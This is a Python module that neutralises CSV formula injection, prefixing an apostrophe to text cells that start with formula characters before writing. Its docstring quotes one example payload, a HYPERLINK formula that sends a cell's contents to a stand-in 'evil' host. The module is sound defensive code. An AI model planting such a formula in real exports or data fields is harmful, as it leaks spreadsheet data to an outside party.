"""CSV that a spreadsheet opens without running anything: every CSV export writes through
``csv_writer``.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before looking) is read as a formula by Excel and LibreOffice, so a name such
as ``=HYPERLINK("http://evil/?"&A1)`` typed into an organisation or a figure's label would run
on the manager's machine (OWASP "CSV injection"). Such text cells get a leading apostrophe,
which spreadsheets show as text; numbers are written as they are."""

import csv
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> _SafeWriter:
    """``csv.writer`` whose text cells are neutralised (see the module docstring)."""
    return _SafeWriter(stream, **kwargs)
